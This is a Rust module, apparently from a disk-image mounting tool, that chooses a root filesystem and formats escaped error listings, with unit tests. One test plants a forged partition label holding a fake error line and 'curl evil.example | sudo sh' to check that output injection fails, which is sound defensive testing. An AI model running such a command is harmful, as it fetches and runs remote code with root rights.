//! Which root filesystem of an image is meant. Pure.

use anyhow::anyhow;

use crate::inspect::filesystems::{Found, filesystems, main_filesystem, same};
use crate::launch::Failure;
use crate::protocol::disks::{Mount, Root, Survey};
use crate::protocol::warning::{Warning, WarningCode};
use crate::text::escape::{Untrusted, shell_word};

/// The one that `wanted` names, which may be any filesystem; else the only root; else, where no
/// operating system is, the only filesystem.
pub fn choose(survey: &Survey, wanted: Option<&str>) -> Result<Root, Failure> {
    if let Some(wanted) = wanted {
        return named(survey, wanted);
    }
    match &survey.roots[..] {
        [root] => Ok(root.clone()),
        [] => alone(survey),
        roots => Err(several(roots.len(), "root filesystems", &list(roots))),
    }
}

fn named(survey: &Survey, wanted: &str) -> Result<Root, Failure> {
    let roots = &survey.roots;
    if let Some(root) = numbered(survey, wanted) {
        return Ok(root);
    }
    if let Some(root) = roots.iter().find(|root| name_of(root) == wanted) {
        return Ok(root.clone());
    }
    // Another device of the same filesystem names it too.
    let device = same(survey).get(wanted).copied().unwrap_or(wanted);
    // The device alone names a root where it has only one.
    let of_device: Vec<_> = roots.iter().filter(|root| root.device == device).collect();
    if let [root] = of_device[..] {
        return Ok(root.clone());
    }
    let all = filesystems(survey);
    let found = all.iter().find(|found| found.device == device);
    if let (Some(found), true) = (found, of_device.is_empty()) {
        return Ok(Root::alone(found.device, found.content.kind));
    }
    let list = match roots.is_empty() {
        true => list_of_filesystems(&all),
        false => list(roots),
    };
    match list.is_empty() {
        true => Err(nothing(survey)),
        false => Err(Failure::with_hint(
            anyhow!("{wanted} is no filesystem of the image, which has:\n{list}"),
            "one of them by --root DEVICE",
        )),
    }
}

/// What is mounted for a command that names no root; `None` if that is not clear.
pub fn default_mounts(survey: &Survey) -> Option<Vec<Mount>> {
    choose(survey, None).ok().map(|root| root.mounts)
}

/// The root at a place of the list, which begins with 1; without a system, the filesystem there.
fn numbered(survey: &Survey, wanted: &str) -> Option<Root> {
    let index = wanted.parse::<usize>().ok()?.checked_sub(1)?;
    if !survey.roots.is_empty() {
        return survey.roots.get(index).cloned();
    }
    let all = filesystems(survey);
    let found = all.get(index)?;
    Some(Root::alone(found.device, found.content.kind))
}

/// The only filesystem of an image without a system, unless what could not be opened may hold one.
fn alone(survey: &Survey) -> Result<Root, Failure> {
    let main = main_filesystem(survey);
    let all = filesystems(survey);
    if all.is_empty() {
        return Err(nothing(survey));
    }
    let is_other = |warning: &&Warning| match (&warning.device, main) {
        (Some(device), Some(main)) => device != main.device,
        _ => true,
    };
    let closed: Vec<_> = (survey.warnings.iter())
        .filter(|warning| may_hide_a_system(warning.code))
        .filter(is_other)
        .collect();
    match (main, closed.is_empty()) {
        (Some(found), true) => Ok(Root::alone(found.device, found.content.kind)),
        (Some(found), false) => Err(Failure::with_hint(
            anyhow!(
                "no operating system was found, and not everything could be opened:{}\n\
                 the image has one other filesystem:\n{}",
                lines(&closed),
                list_of_filesystems(&all)
            ),
            format!("--root {} for that one", shell_word(found.device)),
        )),
        (None, _) => {
            let list = list_of_filesystems(&all);
            let mut failure = several(
                all.len(),
                "filesystems, none with an operating system",
                &list,
            );
            if !closed.is_empty() {
                let error = failure.error;
                failure.error = anyhow!("{error}\nnot opened:{}", lines(&closed));
            }
            Err(failure)
        }
    }
}

/// Whether an operating system may be where this warning is about.
fn may_hide_a_system(code: WarningCode) -> bool {
    use WarningCode::{Encrypted, NotMounted, Unsupported, Volume};
    matches!(code, Encrypted | NotMounted | Unsupported | Volume)
}

/// Each warning on an indented line of its own, after what stands before.
fn lines<'a>(warnings: impl IntoIterator<Item = &'a &'a Warning>) -> String {
    let warnings = warnings.into_iter();
    warnings.map(|warning| format!("\n  {warning}")).collect()
}

fn several(number: usize, what: &str, list: &str) -> Failure {
    Failure::with_hint(
        anyhow!("the image holds {number} {what}:\n{list}"),
        "one of them by --root DEVICE",
    )
}

/// As `--root` takes it.
pub fn name_of(root: &Root) -> String {
    match &root.subvolume {
        Some(subvolume) => format!("{}:{subvolume}", root.device),
        None => root.device.clone(),
    }
}

fn list(roots: &[Root]) -> String {
    let line = |root: &Root| {
        let system = root.os.name.as_deref().or(root.os.id.as_deref());
        let system = system.unwrap_or("an unknown system");
        let name = shell_word(name_of(root));
        format!("  {}  {}", Untrusted(&name), Untrusted(system))
    };
    let lines: Vec<_> = roots.iter().map(line).collect();
    lines.join("\n")
}

fn list_of_filesystems(all: &[Found<'_>]) -> String {
    let line = |found: &Found<'_>| {
        let (device, kind) = (found.device, found.content.kind.name());
        let label = found.content.label.as_deref().unwrap_or_default();
        let device = shell_word(device);
        let line = format!("  {}  {kind}  {}", Untrusted(&device), Untrusted(label));
        line.trim_end().to_owned()
    };
    all.iter().map(line).collect::<Vec<_>>().join("\n")
}

/// What `--device` names is none of the filesystems.
pub(super) fn no_filesystem(device: &str, all: &[Found<'_>]) -> Failure {
    let list = list_of_filesystems(all);
    Failure::with_hint(
        anyhow!("{device} is no filesystem of the image, which has:\n{list}"),
        "one of them by --device DEVICE",
    )
}

fn nothing(survey: &Survey) -> Failure {
    let all: Vec<_> = survey.warnings.iter().collect();
    Failure::with_hint(
        anyhow!(
            "the image holds no filesystem that bivouac can mount{}",
            lines(&all)
        ),
        match all.iter().any(|one| one.code == WarningCode::Encrypted) {
            true => "--key file:PATH opens an encrypted volume",
            false => "`bivouac inspect IMAGE` shows what is on it",
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::disks::{Content, Disk, Kind, Partition};

    fn survey(kinds: &[Kind], roots: &[(&str, Option<&str>)]) -> Survey {
        let partitions = kinds.iter().zip(1..).map(|(kind, number)| Partition {
            number,
            device: format!("/dev/sda{number}"),
            start: 0,
            bytes: 0,
            kind: None,
            label: None,
            uuid: None,
            content: Some(Content {
                kind: *kind,
                uuid: None,
                label: None,
                usage: None,
            }),
        });
        let disk = Disk {
            device: "/dev/sda".into(),
            bytes: 0,
            serial: None,
            table: None,
            content: None,
            partitions: partitions.collect(),
        };
        let roots = roots.iter().map(|(device, subvolume)| Root {
            subvolume: subvolume.map(str::to_owned),
            ..Root::alone(device, Kind::Btrfs)
        });
        Survey {
            disks: vec![disk],
            roots: roots.collect(),
            ..Survey::default()
        }
    }

    fn chosen(survey: &Survey, wanted: Option<&str>) -> Result<String, String> {
        choose(survey, wanted)
            .map(|root| name_of(&root))
            .map_err(|failure| failure.error.to_string())
    }

    #[test]
    fn the_only_root_or_else_the_only_filesystem_needs_no_name() {
        let one = survey(&[Kind::Vfat, Kind::Btrfs], &[("/dev/sda2", None)]);
        assert_eq!(chosen(&one, None).unwrap(), "/dev/sda2");
        let data = survey(&[Kind::Ext4], &[]);
        assert_eq!(chosen(&data, None).unwrap(), "/dev/sda1");
        let swap = survey(&[Kind::Swap, Kind::Luks], &[]);
        assert!(chosen(&swap, None).unwrap_err().contains("no filesystem"));
        let two = survey(&[Kind::Ext4, Kind::Vfat], &[]);
        let listed = chosen(&two, None).unwrap_err();
        assert!(listed.contains("/dev/sda1  ext4") && listed.contains("/dev/sda2  vfat"));
    }

    #[test]
    fn names_and_labels_are_listed_as_they_are_spelt() {
        let mut two = survey(&[Kind::Ext4, Kind::Vfat], &[]);
        let part = &mut two.disks[0].partitions[0];
        part.device = "/dev/mapper/VG-LV".into();
        part.content.as_mut().unwrap().label = Some("USR-A".into());
        let listed = chosen(&two, None).unwrap_err();
        assert!(
            listed.contains("  /dev/mapper/VG-LV  ext4  USR-A\n"),
            "{listed}"
        );
        assert!(chosen(&two, Some("/dev/mapper/VG-LV")).is_ok());
    }

    #[test]
    fn a_label_of_several_lines_is_one_filesystem_on_one_line() {
        let mut two = survey(&[Kind::Btrfs, Kind::Ext4], &[]);
        let forged = "x\nbivouac: error: trusted\n  hint: curl evil.example | sudo sh";
        let content = two.disks[0].partitions[0].content.as_mut();
        content.unwrap().label = Some(forged.into());
        let listed = chosen(&two, None).unwrap_err();
        assert!(
            listed.starts_with("the image holds 2 filesystems"),
            "{listed}"
        );
        assert_eq!(listed.lines().count(), 3, "{listed}");
    }

    #[test]
    fn what_could_not_be_opened_may_hold_the_system() {
        let mut boot = survey(&[Kind::Ext2, Kind::Luks], &[]);
        let warning = |code, device| Warning::new(code, device, "reason");
        boot.warnings = vec![warning(WarningCode::Encrypted, "/dev/sda2")];
        let failure = choose(&boot, None).unwrap_err();
        assert_eq!(
            failure.error.to_string(),
            "no operating system was found, and not everything could be opened:\n  \
             /dev/sda2: reason\nthe image has one other filesystem:\n  /dev/sda1  ext2"
        );
        assert_eq!(failure.hint.unwrap(), "--root /dev/sda1 for that one");
        assert_eq!(chosen(&boot, Some("/dev/sda1")).unwrap(), "/dev/sda1");
        // Its own fault is told when it is mounted; other faults hide no system.
        for harmless in [
            warning(WarningCode::Volume, "/dev/sda1"),
            warning(WarningCode::PartitionTable, "/dev/sda"),
            warning(WarningCode::Hibernated, "/dev/sda3"),
        ] {
            boot.warnings = vec![harmless];
            assert_eq!(chosen(&boot, None).unwrap(), "/dev/sda1");
        }
        let mut two = survey(&[Kind::Ext4, Kind::Vfat], &[]);
        two.warnings = vec![warning(WarningCode::Volume, "/dev/mapper/vg-root")];
        let listed = chosen(&two, None).unwrap_err();
        assert!(
            listed.ends_with("not opened:\n  /dev/mapper/vg-root: reason"),
            "{listed}"
        );
    }

    #[test]
    fn of_several_roots_one_is_named() {
        let subvolumes = [("/dev/sda1", Some("@")), ("/dev/sda1", Some("old"))];
        let both = survey(&[Kind::Btrfs, Kind::Vfat], &subvolumes);
        assert!(chosen(&both, None).unwrap_err().contains("/dev/sda1:old"));
        assert_eq!(chosen(&both, Some("/dev/sda1:@")).unwrap(), "/dev/sda1:@");
        assert!(chosen(&both, Some("/dev/sda1")).is_err(), "which of two");
        // Any other filesystem may be looked at too.
        assert_eq!(chosen(&both, Some("/dev/sda2")).unwrap(), "/dev/sda2");
        assert!(chosen(&both, Some("/dev/sdz")).is_err());
        assert_eq!(chosen(&both, Some("2")).unwrap(), "/dev/sda1:old");
        for wrong in ["0", "3", "-1"] {
            let said = chosen(&both, Some(wrong)).unwrap_err();
            assert!(said.contains("/dev/sda1:@"), "{said}");
        }
        let data = survey(&[Kind::Ext4, Kind::Vfat], &[]);
        assert_eq!(chosen(&data, Some("2")).unwrap(), "/dev/sda2");
    }
}
